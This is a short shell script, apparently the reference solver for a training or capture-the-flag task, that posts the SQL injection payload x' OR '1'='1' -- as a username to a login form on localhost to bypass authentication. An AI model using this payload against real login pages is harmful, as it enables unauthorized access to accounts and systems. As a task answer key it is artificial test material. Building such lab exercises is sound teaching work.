#!/bin/sh
# Reference solver: close the quote and make the condition true.
python3 - <<'PY'
import urllib.parse, urllib.request
form = urllib.parse.urlencode({"user": "x' OR '1'='1' --", "password": "x"}).encode()
print(urllib.request.urlopen("http://127.0.0.1:8085/login", data=form).read().decode())
PY
